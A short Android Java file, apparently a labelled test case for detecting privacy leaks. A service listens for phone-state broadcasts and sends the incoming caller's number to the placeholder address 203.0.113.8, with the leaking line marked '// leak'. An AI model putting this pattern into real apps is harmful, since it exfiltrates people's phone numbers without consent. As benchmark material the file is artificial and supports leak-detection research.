package habits;

import android.app.Service;
import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.content.IntentFilter;
import android.os.IBinder;
import android.telephony.TelephonyManager;
import java.net.URL;

/** A receiver that is registered by code, for calls. */
public class CallerId extends Service {
    @Override
    public void onCreate() {
        registerReceiver(new BroadcastReceiver() {
            @Override
            public void onReceive(Context context, Intent intent) {
                try {
                    new URL("http://203.0.113.8/c?n=" + intent.getStringExtra(TelephonyManager.EXTRA_INCOMING_NUMBER)).openStream(); // leak
                    new URL("http://203.0.113.8/c?s=" + intent.getStringExtra(TelephonyManager.EXTRA_STATE)).openStream(); // no leak
                } catch (Exception ignored) {
                }
            }
        }, new IntentFilter("android.intent.action.PHONE_STATE"));
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
